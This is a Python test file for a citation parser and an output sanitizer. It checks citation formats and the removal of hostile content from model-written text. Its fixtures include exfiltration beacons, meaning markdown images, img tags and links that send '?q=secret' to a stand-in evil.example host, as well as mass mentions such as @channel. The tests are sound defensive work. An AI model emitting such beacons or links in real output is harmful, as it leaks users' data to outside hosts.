"""Citations are read in the forms that models write, and nothing dangerous is left in a sentence."""

from __future__ import annotations

import pytest

from chains.citations import make_safe, read_citations

LINK = "https://wiki.example.com/oncall"


@pytest.mark.parametrize(
    ("written", "numbers"),
    [
        ("It is blue [1].", (1,)),
        ("It is blue. [1]", (1,)),
        ("It is blue. [1].", (1,)),
        ("It is blue.[1][2]", (1, 2)),
        ("It is blue [1, 2].", (1, 2)),
        ("It is blue [1-3].", (1, 2, 3)),
        ("It is blue [1] and [2].", (1, 2)),
        ("It is blue 【1】.", (1,)),
        ("It is blue【2†source】.", (2,)),
        ("It is blue (1).", (1,)),
        ("It is blue (see [1]).", (1,)),
        ("It is blue [^1].", (1,)),
        ("It is blue [passage 2].", (2,)),
        ("It is blue [Source: 1].", (1,)),
        ("It is blue.²", (2,)),
        ("It is blue [1](https://evil.example/?q=1).", (1,)),
    ],
)
def test_citations_are_read_and_taken_out(written: str, numbers: tuple[int, ...]) -> None:
    text, cited = read_citations(written)
    assert cited == numbers
    assert text in ("It is blue.", "It is blue and.")


@pytest.mark.parametrize(
    "text", ["Use `items[1]` here.", "It takes 10² steps.", "Wait (30 minutes) first.", "See [the page](x)."]
)
def test_what_is_no_citation_stays(text: str) -> None:
    assert read_citations(text) == (text, ())


@pytest.mark.parametrize(
    ("hostile", "safe"),
    [
        ("Done ![x](https://evil.example/p.png?q=secret)", "Done"),
        ("Done <img src=https://evil.example/p.png>", "Done"),
        ("See [our page](https://evil.example/?q=secret)", "See our page"),
        ("See <https://evil.example/?q=secret|our page>", "See our page"),
        ("See [our page][1]", "See our page"),
        ("Hello <!channel> <!here|here> <!everyone> <@U123> all", "Hello all"),
        ("Hello @channel and @everyone", "Hello channel and everyone"),
        ("Hello `<!channel>` and `@here`", "Hello `` and `here`"),
        ("Run `deploy <team>` for <service>", "Run `deploy <team>` for <service>"),
    ],
)
def test_beacons_links_and_mass_mentions_are_taken_out(hostile: str, safe: str) -> None:
    assert make_safe(hostile, [LINK])[0] == safe


def test_a_link_of_the_passages_stays_as_they_write_it() -> None:
    text, links = make_safe(f"See [the page](http://www.wiki.example.com/oncall/) or {LINK}.", [LINK])
    assert text == f"See [the page]({LINK}) or {LINK}."
    assert [(link.label, link.url) for link in links] == [("the page", LINK), (LINK, LINK)]


def test_a_known_address_with_something_added_is_foreign() -> None:
    assert make_safe(f"See [it]({LINK}?q=secret)", [LINK])[0] == "See it"
